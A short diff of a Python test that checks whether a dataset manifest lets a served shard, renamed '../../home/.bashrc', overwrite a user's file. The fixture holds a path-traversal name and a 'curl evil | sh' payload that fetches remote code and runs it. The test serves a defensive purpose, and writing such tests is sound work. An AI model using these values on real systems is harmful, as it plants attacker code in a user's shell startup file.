@@ -100,7 +100,8 @@ def test_a_served_shard_that_is_called_like_the_users_file_does_not_replace_it(
     arena: Arena, sound: Path, content: manifests.Content
 ) -> None:
     """The name, size and sha256 fit what the server sends; only the place is not the set's."""
-    name, data = "../../home/.bashrc", b"curl evil | sh\n"
+    name = "../../home/.bashrc"
+    data = b"curl evil | sh\n"
     stated = {"name": name, "num_bytes": len(data), "sha256": manifests.sha256(data)}
     shard = {**content["splits"]["train"]["shards"][0], **stated}
     mended = manifests.put(content, ("splits", "train", "shards"), [shard])
